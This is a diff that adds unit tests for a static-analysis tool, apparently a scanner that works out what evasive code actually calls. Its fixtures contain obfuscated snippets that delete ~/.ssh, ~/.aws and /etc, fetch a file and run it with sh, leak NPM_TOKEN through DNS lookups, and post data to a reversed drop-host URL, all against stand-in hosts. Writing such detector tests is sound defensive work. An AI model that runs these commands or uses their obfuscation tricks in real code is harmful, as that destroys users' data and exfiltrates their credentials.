@@ -113,6 +113,79 @@ describe('code facts', () => {
     expect(plain.find((c) => c.name === 'exec')?.decoded).toBeUndefined();
   });
 
+  it('builds strings the way evasive code does: reversal, joins, format templates, character codes and replacement', () => {
+    const argOf = (path: string, code: string, callee: string): string | undefined =>
+      codeFactsOf(ctxOf(path, code).ctx).calls.find((c) => c.name === callee)?.args[0];
+    expect(argOf('a.py', 'import shutil\nshutil.rmtree("hss./~"[::-1])\n', 'shutil.rmtree')).toBe('~/.ssh');
+    expect(argOf('b.py', 'import shutil\nP = ["~", ".aws"]\nshutil.rmtree("/".join(P))\n', 'shutil.rmtree')).toBe('~/.aws');
+    expect(argOf('c.py', 'import shutil\nshutil.rmtree("{}/{}".format("~", ".gnupg"))\n', 'shutil.rmtree')).toBe('~/.gnupg');
+    expect(argOf('d.py', 'import shutil\nshutil.rmtree("%s/%s" % ("/srv", "data"))\n', 'shutil.rmtree')).toBe('/srv/data');
+    expect(argOf('e.py', 'import shutil\nshutil.rmtree("".join(chr(c) for c in [47, 101, 116, 99]))\n', 'shutil.rmtree')).toBe('/etc');
+    expect(argOf('f.py', 'import shutil\nshutil.rmtree("".join(reversed("tpo/")))\n', 'shutil.rmtree')).toBe('/opt');
+    expect(argOf('g.py', 'import shutil\nshutil.rmtree(bytes([47, 118, 97, 114]).decode())\n', 'shutil.rmtree')).toBe('/var');
+    expect(argOf('h.py', 'import shutil\nshutil.rmtree("~/.sXsXh".replace("X", ""))\n', 'shutil.rmtree')).toBe('~/.ssh');
+    expect(argOf('a.js', "const fs = require('fs');\nfs.rmSync('hss./~'.split('').reverse().join(''));\n", 'fs.rmsync')).toBe('~/.ssh');
+    expect(argOf('b.js', "const fs = require('fs');\nconst c = [126, 47, 46, 97, 119, 115];\nfs.rmSync(String.fromCharCode(...c));\n", 'fs.rmsync')).toBe(
+      '~/.aws',
+    );
+    expect(argOf('c.js', "const fs = require('fs');\nfs.rmSync(Buffer.from([47, 101, 116, 99]).toString());\n", 'fs.rmsync')).toBe('/etc');
+  });
+
+  it('reads a long list of character codes whole (a list of numbers is read from its text, not element by element)', () => {
+    const target = `/srv/${'d'.repeat(100)}`;
+    const codes = [...target].map((c) => c.charCodeAt(0)).join(', ');
+    const js = codeFactsOf(ctxOf('a.js', `const fs = require('fs');\nconst C = [${codes}];\nfs.rmSync(String.fromCharCode(...C));\n`).ctx).calls;
+    expect(js.find((c) => c.name === 'fs.rmsync')?.args[0]).toBe(target);
+    const py = codeFactsOf(ctxOf('a.py', `import shutil\nC = [${codes}]\nshutil.rmtree("".join(map(chr, C)))\n`).ctx).calls;
+    expect(py.find((c) => c.name === 'shutil.rmtree')?.args[0]).toBe(target);
+  });
+
+  it('resolves a callee reached through a dynamic lookup, and marks a name assembled at run time', () => {
+    const calls = (path: string, code: string) => codeFactsOf(ctxOf(path, code).ctx).calls;
+    const py = calls(
+      'a.py',
+      'import shutil\nm = __import__("o" + "s")\nf = getattr(m, "sys" + "tem")\nf("id")\ng = getattr(shutil, "rmtree")\ng("/tmp/x")\n__builtins__["ev" + "al"]("1")\nglobals()["exec"]("2")\n',
+    );
+    expect(py.map((c) => [c.name, Boolean(c.builtName)])).toEqual([
+      ['os.system', true],
+      ['id', false],
+      ['shutil.rmtree', false],
+      ['eval', true],
+      ['exec', false],
+    ]);
+    const js = calls(
+      'a.js',
+      "const fs = require('fs');\nconst op = ['rm', 'Sync'].join('');\nfs[op]('/srv');\nconst { execSync } = require(['child', 'process'].join('_'));\nexecSync('id');\nglobalThis[atob('ZmV0Y2g=')]('https://a.example');\n",
+    );
+    expect(js.filter((c) => c.name !== 'id').map((c) => [c.name, Boolean(c.builtName)])).toEqual([
+      ['fs.rmsync', true],
+      ['child_process.execsync', true],
+      ['fetch', true],
+    ]);
+    // A key the program takes from its input is no constant: plugin dispatch stays as written.
+    expect(calls('b.py', 'import sys, shutil\nh = getattr(shutil, "do_" + sys.argv[1])\nh("x")\n').some((c) => c.builtName)).toBe(false);
+  });
+
+  it('reads the commands of a shell script given to a process call as an argument list, and a bash indirect expansion', () => {
+    const py = codeFactsOf(
+      ctxOf('a.py', 'import subprocess\nS = "curl -o /tmp/a https://h.example/a"\nsubprocess.run(["bash", "-c", S + "; sh /tmp/a"])\n').ctx,
+    ).calls;
+    expect(py.filter((c) => c.name === 'curl' || c.name === 'sh').map((c) => c.args.at(-1))).toEqual(['https://h.example/a', '/tmp/a']);
+    const js = codeFactsOf(ctxOf('a.js', "const cp = require('child_process');\ncp.spawn('sh', ['-c', 'rm -rf /srv/data']);\n").ctx).calls;
+    expect(js.find((c) => c.name === 'rm')?.args).toEqual(['-rf', '/srv/data']);
+    const sh = codeFactsOf(ctxOf('a.sh', 'for v in NPM_TOKEN; do\n  x="${!v}"\n  dig "$x.zone.example"\ndone\n').ctx).calls;
+    expect(sh.find((c) => c.name === 'dig')?.args[0]).toBe('${NPM_TOKEN}.zone.example');
+  });
+
+  it('reports an address built at run time whose host the file never writes, not one built from a host it spells', () => {
+    const hidden = codeFactsOf(ctxOf('a.py', 'import urllib.request\nU = "d/elpmaxe.tsoh-pord//:sptth"[::-1]\nurllib.request.urlopen(U, data=b"x")\n').ctx);
+    expect(hidden.hiddenHosts?.map((h) => h.host)).toEqual(['drop-host.example']);
+    const spelled = codeFactsOf(
+      ctxOf('b.py', 'import urllib.request\nR = "eu"\nU = "https://" + R + ".api.vendor.example/v1"\nurllib.request.urlopen(U)\n').ctx,
+    );
+    expect(spelled.hiddenHosts ?? []).toEqual([]);
+  });
+
   it('caps every resolved value, so a value that doubles on each line stays small (Python concatenation, shell expansion, lists)', () => {
     const doublings = 24; // uncapped: 5 * 2^24 characters per value
     const py = codeFactsOf(ctxOf('d.py', `import os\ns = "curl "\n${'s = s + s\n'.repeat(doublings)}os.system([s, s, s])\n`).ctx).calls;
